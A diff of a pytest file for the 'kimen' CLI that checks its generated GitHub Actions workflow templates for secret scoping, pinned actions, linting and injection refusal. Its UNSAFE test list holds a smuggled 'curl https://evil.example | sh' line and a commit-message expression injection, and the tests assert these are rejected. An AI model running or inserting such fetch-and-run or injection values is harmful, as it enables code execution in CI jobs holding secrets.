@@ -1,5 +1,8 @@
-"""`kimen init ci-pr-safety|ci-deploy` (SPEC §10): the workflows parse, pin actions by commit,
-call only kimen commands and flags that exist, and ship as templates in .github/workflows."""
+"""`kimen init ci-pr-safety|ci-deploy` (docs/ci.md): the workflows parse, call only kimen commands and
+flags that exist, install kimen with `--install-spec` verbatim, hand the identity only to the steps
+that run kimen, guard the deploy job with a GitHub environment and a concurrency group, write every
+flag value so that it reads back as given (or refuse it), pass actionlint and zizmor, and ship as
+rendered copies in .github/workflows."""
 
 from __future__ import annotations
 
@@ -10,31 +13,56 @@ from pathlib import Path
 import pytest
 import yaml
 
+from kimen import __version__
+from tests import workflow_lint
+
 REPO = Path(__file__).resolve().parents[2]
 SHIPPED = {"ci-pr-safety": REPO / ".github/workflows/kimen-pr-safety-template.yml",
            "ci-deploy": REPO / ".github/workflows/kimen-deploy-template.yml"}
+SECRET_ENV = {"KIMEN_AGE_IDENTITY": "${{ secrets.KIMEN_AGE_IDENTITY }}",
+              "KIMEN_TRUSTED_SIGNERS": "${{ vars.KIMEN_TRUSTED_SIGNERS }}"}
+SHA = "0123456789abcdef" * 2 + "01234567"
+# values that are awkward for YAML (`: `, ` #`, `|`, quotes) and the shell, but safe to write
+CUSTOM = {
+    "ci-pr-safety": {"--profile": "staging.eu", "--command": 'make check REF="$GITHUB_SHA" # lint: yes',
+                     "--install-spec": "--index-url https://pypi.example.com/simple kimen==0.1.0"},
+    "ci-deploy": {"--profile": "prod-eu", "--deploy-command": './deploy.sh --ref "$GITHUB_SHA" # a: b | c',
+                  "--bundle": "secrets/prod.age", "--environment": "prod: eu #1",
+                  "--install-spec": f"git+https://git.example.com/org/kimen@{SHA}"},
+}
+COMMAND_FLAG = {"ci-pr-safety": "--command", "ci-deploy": "--deploy-command"}
+UNSAFE = ["${{ github.event.head_commit.message }}", "./deploy.sh\ncurl https://evil.example | sh",
+          "a\rb", "a\u2028b", "a\tb"]
+
+
+def _flags(values: dict[str, str]) -> list[str]:
+    return [word for flag, value in values.items() for word in (flag, value)]
+
+
+def _runs_kimen(step: dict) -> bool:
+    return any(line.strip().startswith("kimen ") for line in str(step.get("run", "")).splitlines())
 
 
 def _kimen_lines(workflow: dict) -> list[str]:
-    lines = []
-    for job in workflow["jobs"].values():
-        for step in job["steps"]:
-            for line in str(step.get("run", "")).splitlines():
-                if line.strip().startswith("kimen "):
-                    lines.append(line.strip())
-    return lines
+    return [line.strip() for job in workflow["jobs"].values() for step in job["steps"]
+            for line in str(step.get("run", "")).splitlines() if line.strip().startswith("kimen ")]
 
 
-def _check_workflow(kimen, text: str) -> dict:
-    workflow = yaml.safe_load(text)
-    assert workflow["permissions"] == {"contents": "read"}
-    steps = [s for job in workflow["jobs"].values() for s in job["steps"]]
-    uses = [s["uses"] for s in steps if "uses" in s]
-    assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses), uses
-    checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
-    assert checkout["with"]["persist-credentials"] is False
-    assert any("pip install" in str(s.get("run", "")) for s in steps)
-    assert "echo $" not in text and "secrets." not in "".join(_kimen_lines(workflow))
+def _strings(node, path=()):
+    """Every key and scalar of the document, with its path."""
+    if isinstance(node, dict):
+        for key, value in node.items():
+            yield (*path, key), str(key)
+            yield from _strings(value, (*path, key))
+    elif isinstance(node, list):
+        for i, value in enumerate(node):
+            yield from _strings(value, (*path, i))
+    else:
+        yield path, str(node)
+
+
+def _check_commands_exist(kimen, workflow: dict) -> None:
+    """Each `kimen …` line names a real command, and each of its flags is in that command's --help."""
     lines = _kimen_lines(workflow)
     assert lines
     for line in lines:
@@ -50,7 +78,43 @@ def _check_workflow(kimen, text: str) -> dict:
         help_text = kimen.ok(*command, "--help").stdout
         for flag in (w for w in words if w.startswith("--")):
             assert flag in help_text, f"{flag} is not an option of kimen {' '.join(command)}"
+
+
+def check_workflow(kimen, text: str, install_spec: str) -> dict:
+    """The rules every template keeps, whatever its flags."""
+    workflow = yaml.safe_load(text)
+    assert workflow["permissions"] == {"contents": "read"}
+    for level in (workflow, *workflow["jobs"].values()):  # no secret, no kimen variable above a step
+        env = level.get("env") or {}
+        assert not any("secrets." in f"{k}{v}" or k.startswith("KIMEN_") for k, v in env.items()), env
+    for job in workflow["jobs"].values():
+        assert isinstance(job.get("name"), str) and job["name"].strip(), job
+        steps = job["steps"]
+        uses = [s["uses"] for s in steps if "uses" in s]
+        assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses), uses
+        checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
+        assert checkout["with"]["persist-credentials"] is False
+        installs = [s for s in steps if "pip install" in str(s.get("run", ""))]
+        assert len(installs) == 1, installs
+        assert installs[0]["run"] == f"python -m pip install {install_spec}\n"  # verbatim
+        assert "env" not in installs[0]  # the install step runs third-party code: no secret, no variable
+    # `secrets.` only in the env: of a step that runs kimen
+    hits = [path for path, value in _strings(workflow) if "secrets." in value]
+    for path in hits:
+        assert len(path) == 6 and (path[0], path[2], path[4]) == ("jobs", "steps", "env"), path
+        assert _runs_kimen(workflow["jobs"][path[1]]["steps"][path[3]]), path
+    assert text.count("secrets.") == len(hits)  # none hides where YAML does not see it
+    assert "echo $" not in text
+    _check_commands_exist(kimen, workflow)
     return workflow
+
+
+def _generate(kimen, template: str, *flags: str, out: str = "w.yml") -> tuple[str, dict]:
+    done = kimen.ok("init", template, "--out", out, "--force", *flags)
+    text = (kimen.cwd / out).read_text()
+    spec = dict(zip(flags[::2], flags[1::2], strict=True)).get("--install-spec", f"kimen=={__version__}")
+    assert done.stdout.strip() == f"wrote {kimen.cwd / out}"
+    return text, check_workflow(kimen, text, spec)
 
 
 @pytest.mark.parametrize("template", ["ci-pr-safety", "ci-deploy"])
@@ -61,24 +125,68 @@ def test_generated_workflow(kimen, template):
     assert out.relative_to(kimen.cwd).parts[:2] == (".github", "workflows")
     assert stat.S_IMODE(out.stat().st_mode) == 0o644
     assert stat.S_IMODE(out.parent.stat().st_mode) == 0o755
-    workflow = _check_workflow(kimen, out.read_text())
+    text = out.read_text()
+    workflow = check_workflow(kimen, text, f"kimen=={__version__}")  # the default: this version, pinned
     triggers = workflow[True]  # YAML 1.1 reads the key `on` as true
+    (job,) = workflow["jobs"].values()
     if template == "ci-pr-safety":
-        assert "pull_request" in triggers
-        assert not any("secrets" in str(job) for job in workflow["jobs"].values())
+        assert list(triggers) == ["pull_request"]
+        assert "secrets." not in text and "KIMEN_AGE_IDENTITY" not in text
+        assert job["concurrency"]["cancel-in-progress"] is True
     else:
         assert triggers["push"]["branches"] == ["main"] and "workflow_dispatch" in triggers
-        env = workflow["jobs"]["kimen-deploy"]["env"]
-        assert env["KIMEN_AGE_IDENTITY"] == "${{ secrets.KIMEN_AGE_IDENTITY }}"
-        assert env["KIMEN_TRUSTED_SIGNERS"] == "${{ vars.KIMEN_TRUSTED_SIGNERS }}"
+        assert job["environment"] == "production"
+        assert job["concurrency"] == {"group": "kimen-deploy-production", "cancel-in-progress": False}
+        kimen_steps = [s for s in job["steps"] if _runs_kimen(s)]
+        assert [s["run"] for s in kimen_steps] == [
+            "kimen doctor --bundle vault.age --profile prod --strict --json\n",
+            "kimen project run --bundle vault.age --profile prod -- ./scripts/deploy.sh\n"]
+        assert all(s["env"] == SECRET_ENV for s in kimen_steps)
+        assert not any("env" in s for s in job["steps"] if not _runs_kimen(s))
+
+
+@pytest.mark.parametrize("template", ["ci-pr-safety", "ci-deploy"])
+def test_flag_values_read_back_exactly(kimen, template):
+    values = CUSTOM[template]
+    _text, workflow = _generate(kimen, template, *_flags(values))
+    (job,) = workflow["jobs"].values()
+    lines = _kimen_lines(workflow)
+    assert f"--profile {values['--profile']} " in lines[-1]
+    assert lines[-1].endswith(f" -- {values[COMMAND_FLAG[template]]}")
+    if template == "ci-deploy":
+        assert job["environment"] == values["--environment"]
+        assert job["concurrency"]["group"] == f"kimen-deploy-{values['--environment']}"
+        assert all(f"--bundle {values['--bundle']} " in line for line in lines)
+    # names YAML would read as booleans or numbers stay strings; placeholders in a value stay literal
+    for environment in ("yes", "1.0", "null"):
+        _text, workflow = _generate(kimen, "ci-deploy", "--environment", environment,
+                                    "--deploy-command", "echo __PROFILE__ __COMMAND__")
+        (job,) = workflow["jobs"].values()
+        assert job["environment"] == environment
+        assert _kimen_lines(workflow)[-1].endswith("--profile prod -- echo __PROFILE__ __COMMAND__")
+
+
+def test_unsafe_flag_values_are_refused(kimen):
+    """A `${{` expression (GitHub expands it before the shell runs: a commit message could run in the
+    job holding the identity) or a line break in any value written into a template is refused."""
+    flags = {"ci-pr-safety": ["--profile", "--command", "--install-spec"],
+             "ci-deploy": ["--profile", "--deploy-command", "--bundle", "--environment", "--install-spec"]}
+    for template, names in flags.items():
+        for flag in names:
+            for value in UNSAFE:
+                done = kimen.fail(33, "template_value_unsafe", "init", template, "--out", "w.yml", flag, value)
+                envelope = done.err_json()
+                assert envelope["error"].startswith(f"{flag} cannot be written into a workflow"), envelope
+                assert "$GITHUB_SHA" in envelope["hint"]
+                assert "head_commit" not in done.err and "evil" not in done.err  # the value is not echoed
+    assert not (kimen.cwd / "w.yml").exists()
+    done = kimen.run("init", "ci-deploy", "--deploy-command", "echo ${{ github.event.head_commit.message }}")
+    assert done.code == 33 and "kimen: hint: use shell variables such as $GITHUB_SHA" in done.err
 
 
 def test_flags_and_refusals(kimen):
-    done = kimen.ok("init", "ci-deploy", "--out", "d.yml", "--profile", "staging", "--deploy-command",
-                    "make deploy ENV=staging # done", "--bundle", "secrets/staging.age")
-    assert done.stdout.strip() == f"wrote {kimen.cwd / 'd.yml'}"
-    text = (kimen.cwd / "d.yml").read_text()
-    _check_workflow(kimen, text)
+    text, _workflow = _generate(kimen, "ci-deploy", "--profile", "staging", "--deploy-command",
+                                "make deploy ENV=staging # done", "--bundle", "secrets/staging.age", out="d.yml")
     assert "--bundle secrets/staging.age --profile staging -- make deploy ENV=staging # done" in text
     done = kimen.fail(33, "output_exists", "init", "ci-deploy", "--out", "d.yml")
     assert "--force" in done.err_json()["hint"]
@@ -88,14 +196,62 @@ def test_flags_and_refusals(kimen):
     kimen.fail(33, "output_is_directory", "init", "ci-pr-safety", "--out", "dir.yml")
     kimen.fail(33, "invalid_profile_name", "init", "ci-pr-safety", "--out", "x.yml", "--profile", "a b")
     kimen.fail(33, "init_failed", "init", "ci-deploy", "--out", "x.yml", "--bundle", "../x.age")
+    for flag, value in (("--install-spec", " "), ("--deploy-command", ""), ("--environment", ""),
+                        ("--environment", " prod"), ("--environment", "e" * 256)):
+        kimen.fail(33, "init_failed", "init", "ci-deploy", "--out", "x.yml", flag, value)
     assert not (kimen.cwd / "x.yml").exists()
 
 
-@pytest.mark.parametrize("template", sorted(SHIPPED))
-def test_shipped_templates_are_current(kimen, template):
-    from scripts.gen_ci_templates import shipped
+def _documented_install_specs() -> list[str]:
+    """docs/ci.md's three install choices (a pinned git URL, a wheel, a private index), filled in."""
+    text = (REPO / "docs" / "ci.md").read_text()
+    section = text.split("### Installing kimen in the job", 1)[1].split("\n### ", 1)[0]
+    specs = re.findall(r"--install-spec '([^']+)'", section)
+    assert [spec.split(":")[0].split("/")[0] for spec in specs] == ["git+https", ".", "--index-url https"]
+    fill = {"<host>": "git.example.com", "<org>": "example-org", "<40-hex sha>": SHA, "<version>": __version__,
+            "<index>": "pypi.example.com"}
+    for placeholder, value in fill.items():
+        specs = [spec.replace(placeholder, value) for spec in specs]
+    assert not any("<" in spec for spec in specs), specs
+    return specs
 
-    path = SHIPPED[template]
-    assert path.read_text() == shipped()[path], "run: python scripts/gen_ci_templates.py"
-    workflow = _check_workflow(kimen, path.read_text())
-    assert list(workflow[True]) == ["workflow_dispatch"]
+
+def test_the_install_choices_of_the_docs_are_written_verbatim(kimen):
+    for spec in _documented_install_specs():
+        _generate(kimen, "ci-deploy", "--install-spec", spec)  # checks that the install step is SPEC verbatim
+
+
+def _lint_inputs(kimen) -> list[Path]:
+    """Both templates with default flags and with CUSTOM's, and the deploy template with each
+    install choice of the docs."""
+    variants = [(template, variant, flags) for template, values in CUSTOM.items()
+                for variant, flags in (("default", []), ("custom", _flags(values)))]
+    variants += [("ci-deploy", f"doc-{i}", ["--install-spec", spec])
+                 for i, spec in enumerate(_documented_install_specs())]
+    files = []
+    for template, variant, flags in variants:
+        out = kimen.cwd / ".github" / "workflows" / f"{template}-{variant}.yml"
+        kimen.ok("init", template, "--out", str(out), *flags)
+        assert "zizmor" not in out.read_text()  # no ignore comment
+        files.append(out)
+    return files
+
+
+def test_generated_workflows_pass_zizmor(kimen):
+    assert not [p for p in ("zizmor.yml", ".github/zizmor.yml") if (REPO / p).exists()]  # no config file
+    workflow_lint.zizmor(_lint_inputs(kimen))
+
+
+def test_generated_workflows_pass_actionlint(kimen):
+    workflow_lint.actionlint(_lint_inputs(kimen))
+
+
+@pytest.mark.parametrize("template", sorted(SHIPPED))
+def test_shipped_templates_are_what_init_writes(kimen, template):
+    """The copies in .github/workflows are `kimen init`'s output with the trigger reduced to
+    workflow_dispatch (regenerate with `python scripts/gen_ci_templates.py`)."""
+    kimen.ok("init", template, "--out", "w.yml")
+    generated = (kimen.cwd / "w.yml").read_text()
+    expected, count = re.subn(r"^on:\n(?:  .*\n)+", "on:\n  workflow_dispatch:\n", generated, flags=re.M)
+    assert count == 1 and expected != generated
+    assert SHIPPED[template].read_text() == expected, "run: python scripts/gen_ci_templates.py"
